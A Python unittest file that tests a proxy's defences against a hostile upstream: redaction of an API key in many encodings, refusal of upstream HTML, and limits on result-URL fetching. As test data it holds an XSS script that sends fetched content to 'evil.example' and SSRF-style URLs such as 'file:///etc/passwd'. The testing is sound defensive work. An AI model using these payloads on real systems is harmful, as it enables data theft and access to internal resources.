"""The upstream proxy against a hostile or careless upstream (issue 9, finding 4).

    python3 -m unittest discover -s tests/serve -p 'test_upstream_hostile.py'

The key must not reach the client in any form the upstream may write it in (a relayed header, JSON
escapes, percent-encoding, base64, an event stream, a compressed body, a kept result file), and the
result URLs an upstream names are fetched only from its own origin or a host given with
--upstream-fetch, redirects included. A "secret" server on another loopback port stands for an
internal page: it must record no request. The last class runs the same through a real serve.py.
"""

import base64
import gzip
import html
import json
import os
import re
import sys
import tempfile
import unittest
import urllib.parse
from pathlib import Path
from types import SimpleNamespace

sys.path.insert(0, str(Path(__file__).resolve().parent))
from server_fixture import ServeProcess  # noqa: E402
from upstream_fixture import (KEY_ENV, MP4, ScriptedUpstream, body_of, dispatch, proxy_config,  # noqa: E402
                              upstream)

# A key with the characters JSON and URLs escape (`/`, `+`, `=`).
KEY = "sk-live/7F3a9c+Qx=never-shown-42"
JOB_PATH = "/api/v1/creative-hub/generate/jobs/j1"
SECRET_PAGE = b"<h1>internal admin page</h1>"


def json_escaped(text: str, every_character: bool = False, upper_hex: bool = False) -> str:
    """`text` as an upstream's JSON encoder may write it: `/` as `\\/`, or every character as \\uXXXX."""
    if every_character:
        return "".join(("\\u%04X" if upper_hex else "\\u%04x") % ord(ch) for ch in text)
    return text.replace("/", "\\/")


def readable_views(blob: bytes) -> dict[str, bytes]:
    """What a client could read out of bytes it received: as sent, with JSON escapes undone (nested
    ones too), percent-decoded, HTML-unescaped, gunzipped."""
    views = {"raw": blob}
    unescaped = blob
    for _ in range(3):
        unescaped = re.sub(rb"\\+u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)).encode(), unescaped)
        unescaped = re.sub(rb"\\+/", b"/", unescaped)
    views["json"] = unescaped
    decoded = blob
    for _ in range(3):
        decoded = urllib.parse.unquote_to_bytes(decoded)
    views["percent"] = decoded
    views["html"] = html.unescape(blob.decode("latin-1")).encode("latin-1", "replace")
    if blob.startswith(b"\x1f\x8b"):
        views["gunzip"] = gzip.decompress(blob)
    return views


def base64_cores(key: bytes) -> list[bytes]:
    """The part of base64 that only the key decides, at each of the three byte alignments."""
    cores = []
    for pad in range(3):
        for encode in (base64.b64encode, base64.urlsafe_b64encode):
            encoded = encode(b"\0" * pad + key)
            cores.append(encoded[-(-8 * pad // 6):(8 * (pad + len(key))) // 6])
    return cores


def everything_sent(answer) -> bytes:
    """Status, content type, every header and the body of a route's answer, as one blob."""
    head = f"{answer.status} {answer.content_type} {json.dumps(answer.headers)}\n".encode()
    return head + body_of(answer)


class HostileUpstreamCase(unittest.TestCase):
    """A scripted upstream, a secret server, and the proxy's routes."""

    def setUp(self):
        os.environ[KEY_ENV] = KEY
        self.addCleanup(os.environ.pop, KEY_ENV, None)
        self.upstream = ScriptedUpstream()
        self.addCleanup(self.upstream.close)
        self.secret = ScriptedUpstream()
        self.addCleanup(self.secret.close)
        self.secret.answers[("GET", "/secret")] = (200, "text/html", SECRET_PAGE)
        data = tempfile.TemporaryDirectory()
        self.addCleanup(data.cleanup)
        self.data = data.name
        self.ctx = SimpleNamespace(base_url="http://127.0.0.1:8123")

    def routes(self, dialect="creative-hub", fetch_hosts=()):
        return upstream.routes_for(proxy_config(self.upstream.origin, dialect, self.data, fetch_hosts))

    def assert_no_key(self, blob: bytes):
        for view, data in readable_views(blob).items():
            self.assertNotIn(KEY.lower().encode(), data.lower(), f"the key is readable ({view}) in {blob[:300]!r}")
        for core in base64_cores(KEY.encode()):
            self.assertNotIn(core, blob, f"the key is readable as base64 in {blob[:300]!r}")

    def job_answer(self, urls, headers=None):
        job = {"job_id": "j1", "status": "completed", "result_urls": urls, "cost_cents": 0}
        self.upstream.answers[("GET", JOB_PATH)] = (200, "application/json", json.dumps(job).encode(), headers or {})

    def error_message(self, answer) -> str:
        return json.loads(body_of(answer))["error_message"]


class KeyRedactionTest(HostileUpstreamCase):
    def relay(self, status, content_type, payload, headers=None):
        self.upstream.answers[("GET", JOB_PATH)] = (status, content_type, payload, headers or {})
        return dispatch(self.routes(), self.ctx, "GET", JOB_PATH)

    def test_a_key_that_cannot_be_redacted_reliably_is_refused_at_start_up(self):
        for key in ("abc123", 'sk-"quoted"-key', "sk-key with space", "sk-ключ-12345678"):
            with self.subTest(key=key):
                os.environ[KEY_ENV] = key
                with self.assertRaisesRegex(upstream.UpstreamConfigError, KEY_ENV):
                    self.routes()

    def test_key_echoed_in_relayed_headers_is_redacted(self):
        answer = self.relay(429, f"application/json; charset=utf-8; echo={KEY}", b'{"error_message":"slow down"}',
                            {"Retry-After": f"Bearer {KEY}", "openai-poll-after-ms": KEY, "X-Echo": KEY})
        self.assertEqual(answer.status, 429)
        relayed = {name.lower(): value for name, value in answer.headers.items()}
        self.assertEqual(relayed["retry-after"], "Bearer [redacted]")
        self.assert_no_key(everything_sent(answer))

    def test_key_written_with_json_escapes_is_redacted(self):
        forms = {"slash": json_escaped(KEY), "every character": json_escaped(KEY, True),
                 "upper-case hex": json_escaped(KEY, True, True),
                 "mixed": json_escaped(KEY[:10]) + json_escaped(KEY[10:], True),
                 "nested JSON": json.dumps(json.dumps({"auth": json_escaped(KEY)}))[1:-1]}
        for name, form in forms.items():
            for status in (200, 401, 500):
                with self.subTest(form=name, status=status):
                    payload = ('{"job_id":"j1","status":"failed","error_message":"bad key Bearer %s"}' % form).encode()
                    answer = self.relay(status, "application/json", payload)
                    self.assertEqual(answer.status, status)
                    self.assert_no_key(everything_sent(answer))
                    self.assertIn("[redacted]", json.loads(body_of(answer))["error_message"],
                                  "the answer stays valid JSON with the key replaced")

    def test_key_percent_encoded_base64_or_in_plain_text_is_redacted(self):
        basic = base64.b64encode(f"user:{KEY}".encode()).decode()
        forms = {"percent": urllib.parse.quote(KEY, safe=""),
                 "percent twice": urllib.parse.quote(urllib.parse.quote(KEY, safe="")),
                 "form": urllib.parse.quote_plus(KEY), "basic auth": f"Basic {basic}",
                 "url-safe base64": base64.urlsafe_b64encode(KEY.encode()).decode(), "upper case": KEY.upper(),
                 "html": "".join(f"&#{ord(ch)};" for ch in KEY), "hex": KEY.encode().hex()}
        for name, form in forms.items():
            for content_type in ("application/json", "text/plain"):
                with self.subTest(form=name, content_type=content_type):
                    answer = self.relay(400, content_type, f'{{"error_message":"sent {form}"}}'.encode())
                    self.assert_no_key(everything_sent(answer))

    def test_key_in_an_event_stream_is_redacted(self):
        events = [b": echo " + json_escaped(KEY).encode() + b"\n\n",
                  b"id: " + KEY.encode() + b"\n",
                  b"data: not json " + json_escaped(KEY, True).encode() + b"\n\n",
                  b'data: {"type":"error","message":"' + json_escaped(KEY).encode() + b'"}\n\n']
        self.upstream.answers[("POST", "/v3/ai/video-model")] = (200, "text/event-stream", events)
        answer = dispatch(self.routes("gateway"), self.ctx, "POST", "/v3/ai/video-model", b"{}")
        self.assertEqual((answer.status, answer.content_type), (200, "text/event-stream"))
        sent = everything_sent(answer)
        self.assert_no_key(sent)
        self.assertEqual(sent.count(b"[redacted]"), 4, sent)

    def test_compressed_answer_is_refused_not_relayed_unread(self):
        payload = gzip.compress(('{"job_id":"j1","status":"failed","error_message":"key %s"}' % KEY).encode())
        answer = self.relay(200, "application/json", payload, {"Content-Encoding": "gzip"})
        self.assert_no_key(everything_sent(answer))
        self.assertEqual(answer.status, 502)
        self.assertIn("Content-Encoding", self.error_message(answer))

    def test_kept_result_file_echoing_the_key_is_redacted(self):
        self.upstream.answers[("GET", "/out.mp4")] = (200, "video/mp4", MP4 + b"debug: " + json_escaped(KEY).encode())
        self.job_answer([f"{self.upstream.origin}/out.mp4"])
        routes = self.routes()
        url = json.loads(body_of(dispatch(routes, self.ctx, "GET", JOB_PATH)))["result_urls"][0]
        kept = dispatch(routes, self.ctx, "GET", url.removeprefix(self.ctx.base_url))
        self.assertEqual((kept.status, body_of(kept)[:len(MP4)]), (200, MP4))
        self.assert_no_key(everything_sent(kept))
        for stored in Path(self.data, "upstream").iterdir():
            self.assert_no_key(stored.read_bytes())


class AnswerShapeTest(HostileUpstreamCase):
    """What the proxy serves from our origin is never a page of the upstream's making."""

    def test_upstream_html_is_not_served_as_a_page_of_our_origin(self):
        page = b"<script>fetch('/v1/videos').then(r => r.text()).then(t => fetch('//evil.example/?' + t))</script>"
        for content_type in ("text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript"):
            with self.subTest(content_type=content_type):
                self.upstream.answers[("GET", JOB_PATH)] = (500, content_type, page)
                answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
                self.assertIn(answer.content_type.split(";")[0], ("text/plain", "application/octet-stream"))
                self.upstream.answers[("GET", "/page")] = (200, content_type, page)
                self.job_answer([f"{self.upstream.origin}/page"])
                routes = self.routes()
                url = json.loads(body_of(dispatch(routes, self.ctx, "GET", JOB_PATH)))["result_urls"][0]
                kept = dispatch(routes, self.ctx, "GET", url.removeprefix(self.ctx.base_url))
                self.assertEqual(kept.status, 200)
                self.assertIn(kept.content_type, ("text/plain", "application/octet-stream"))

    def test_status_outside_200_to_599_is_a_502(self):
        self.upstream.answers[("GET", JOB_PATH)] = (101, "application/json", b"", {"Upgrade": "websocket"})
        answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
        self.assertEqual(answer.status, 502)
        self.assertIn("101", self.error_message(answer))

    def test_deeply_nested_answer_is_relayed_not_a_crash(self):
        nested = b"[" * 200_000 + b"]" * 200_000
        self.upstream.answers[("GET", JOB_PATH)] = (200, "application/json", nested)
        answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
        self.assertEqual((answer.status, body_of(answer)), (200, nested))

    def test_oversized_answer_or_event_is_refused(self):
        huge = b'{"pad":"' + b"x" * upstream.MAX_ANSWER_BYTES + b'"}'
        self.upstream.answers[("GET", JOB_PATH)] = (200, "application/json", huge)
        answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
        self.assertEqual(answer.status, 502)
        self.assertIn(str(upstream.MAX_ANSWER_BYTES), self.error_message(answer))
        self.upstream.answers[("POST", "/v3/ai/video-model")] = (200, "text/event-stream", [b": ok\n\n", huge])
        stream = body_of(dispatch(self.routes("gateway"), self.ctx, "POST", "/v3/ai/video-model", b"{}"))
        self.assertLess(len(stream), 4096)
        self.assertIn(str(upstream.MAX_ANSWER_BYTES).encode(), stream)


    def test_truncated_answer_or_result_is_a_502_not_a_partial_copy(self):
        self.upstream.answers[("GET", "/out.mp4")] = (200, "video/mp4", MP4[:100], {"Content-Length": str(len(MP4))})
        self.job_answer([f"{self.upstream.origin}/out.mp4"])
        answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
        self.assertEqual(answer.status, 502)
        self.assertIn("broke off", self.error_message(answer))
        self.assertFalse(Path(self.data, "upstream").exists() and any(Path(self.data, "upstream").iterdir()),
                         "a partial result was kept")
        self.upstream.answers[("GET", JOB_PATH)] = (200, "application/json", b'{"job_id":"j1"', {"Content-Length": "99"})
        self.assertEqual(dispatch(self.routes(), self.ctx, "GET", JOB_PATH).status, 502)

    def test_conflicting_content_lengths_are_a_502(self):
        self.upstream.answers[("GET", JOB_PATH)] = (200, "application/json", b"{}", {"Content-Length": "2",
                                                                                      "content-length": "40"})
        answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
        self.assertEqual(answer.status, 502)
        self.assertIn("Content-Length", self.error_message(answer))

    def test_an_answer_naming_many_results_is_refused_before_fetching(self):
        self.upstream.answers[("GET", "/out.mp4")] = (200, "video/mp4", MP4)
        self.job_answer([f"{self.upstream.origin}/out.mp4?copy={index}" for index in range(1000)])
        answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
        self.assertEqual(answer.status, 502)
        self.assertIn(str(upstream.MAX_RESULTS_PER_ANSWER), self.error_message(answer))
        self.assertEqual([seen.path for seen in self.upstream.received], [JOB_PATH])


class ResultUrlTest(HostileUpstreamCase):
    def test_result_on_a_host_not_allowed_is_refused_unfetched(self):
        secret_port = self.secret.server_address[1]
        self.job_answer([f"{self.secret.origin}/secret"])
        answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
        self.assertEqual(answer.status, 502)
        self.assertIn(f"--upstream-fetch 127.0.0.1:{secret_port}", self.error_message(answer))
        for url in (f"http://localhost:{secret_port}/secret", f"http://[::1]:{secret_port}/secret",
                    f"http://{self.upstream.host_port}@127.0.0.1:{secret_port}/secret",
                    f"https://{self.upstream.host_port}/secret", "file:///etc/passwd", "http://127.0.0.1:99999/secret"):
            with self.subTest(url=url):
                self.job_answer([url])
                answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
                self.assertEqual(answer.status, 502)
                self.assertTrue(self.error_message(answer))
        self.assertEqual(self.secret.received, [], "the secret server was asked")

    def test_redirect_to_a_host_not_allowed_is_not_followed(self):
        self.upstream.answers[("GET", "/files/v.mp4")] = (302, "text/plain", b"",
                                                          {"Location": f"{self.secret.origin}/secret"})
        self.job_answer([f"{self.upstream.origin}/files/v.mp4"])
        answer = dispatch(self.routes(), self.ctx, "GET", JOB_PATH)
        self.assertEqual(answer.status, 502)
        self.assertIn(f"redirects to {self.secret.host_port}", self.error_message(answer))
        self.assertEqual(self.secret.received, [])

    def test_redirect_to_an_allowed_host_is_followed_and_the_key_stays_with_the_upstream(self):
        self.secret.answers[("GET", "/bucket/v.mp4")] = (200, "video/mp4", MP4)
        self.upstream.answers[("GET", "/files/v.mp4")] = (302, "text/plain", b"",
                                                          {"Location": f"{self.secret.origin}/bucket/v.mp4"})
        self.job_answer([f"{self.upstream.origin}/files/v.mp4"])
        routes = self.routes(fetch_hosts=[self.secret.host_port])
        url = json.loads(body_of(dispatch(routes, self.ctx, "GET", JOB_PATH)))["result_urls"][0]
        self.assertEqual(body_of(dispatch(routes, self.ctx, "GET", url.removeprefix(self.ctx.base_url))), MP4)
        self.assertEqual(self.upstream.received[-1].headers["Authorization"], f"Bearer {KEY}")
        self.assertNotIn("Authorization", self.secret.received[0].headers)

    def test_result_in_an_event_stream_on_a_host_not_allowed_is_an_error_event(self):
        event = {"type": "result", "videos": [{"type": "url", "url": f"{self.secret.origin}/secret"}]}
        self.upstream.answers[("POST", "/v3/ai/video-model")] = (
            200, "text/event-stream", [b"data: " + json.dumps(event).encode() + b"\n\n"])
        stream = body_of(dispatch(self.routes("gateway"), self.ctx, "POST", "/v3/ai/video-model", b"{}"))
        self.assertIn(b'"type": "error"', stream)
        self.assertIn(b"--upstream-fetch", stream)
        self.assertEqual(self.secret.received, [])


class ThroughServeTest(HostileUpstreamCase):
    """The same through a real serve.py (--upstream ... --upstream-fetch HOST): what a client
    receives on the wire carries no key, and only the named host's result is fetched."""

    def test_serve_relays_no_key_and_fetches_only_allowed_results(self):
        storage = ScriptedUpstream()
        self.addCleanup(storage.close)
        storage.answers[("GET", "/bucket/v.mp4")] = (200, "video/mp4", MP4)
        server = ServeProcess("--upstream", self.upstream.origin, "--upstream-dialect", "creative-hub",
                              "--api-key-env", KEY_ENV, "--upstream-fetch", storage.host_port,
                              env={**os.environ, KEY_ENV: KEY})
        self.addCleanup(server.close)
        jobs = {"secret": [f"{self.secret.origin}/secret"], "stored": [f"{storage.origin}/bucket/v.mp4"]}
        for job_id, urls in jobs.items():
            job = {"job_id": job_id, "status": "completed", "result_urls": urls, "cost_cents": 0}
            self.upstream.answers[("GET", JOB_PATH.replace("j1", job_id))] = (200, "application/json",
                                                                              json.dumps(job).encode())
        self.upstream.answers[("GET", JOB_PATH.replace("j1", "echo"))] = (
            429, "application/json", b'{"error_message":"slow down, ' + json_escaped(KEY, True).encode() + b'"}',
            {"Retry-After": KEY})
        answers = {job_id: server.request("GET", JOB_PATH.replace("j1", job_id))
                   for job_id in ("secret", "stored", "echo")}
        for job_id, (status, headers, raw) in answers.items():
            self.assert_no_key(json.dumps(headers).encode() + raw)
        self.assertEqual([answers[job_id][0] for job_id in ("secret", "stored", "echo")], [502, 200, 429])
        self.assertEqual(answers["echo"][1]["retry-after"], "[redacted]")
        self.assertEqual(self.secret.received, [])
        kept = json.loads(answers["stored"][2])["result_urls"][0]
        self.assertEqual(server.request("GET", server.local_path(kept))[::2], (200, MP4))
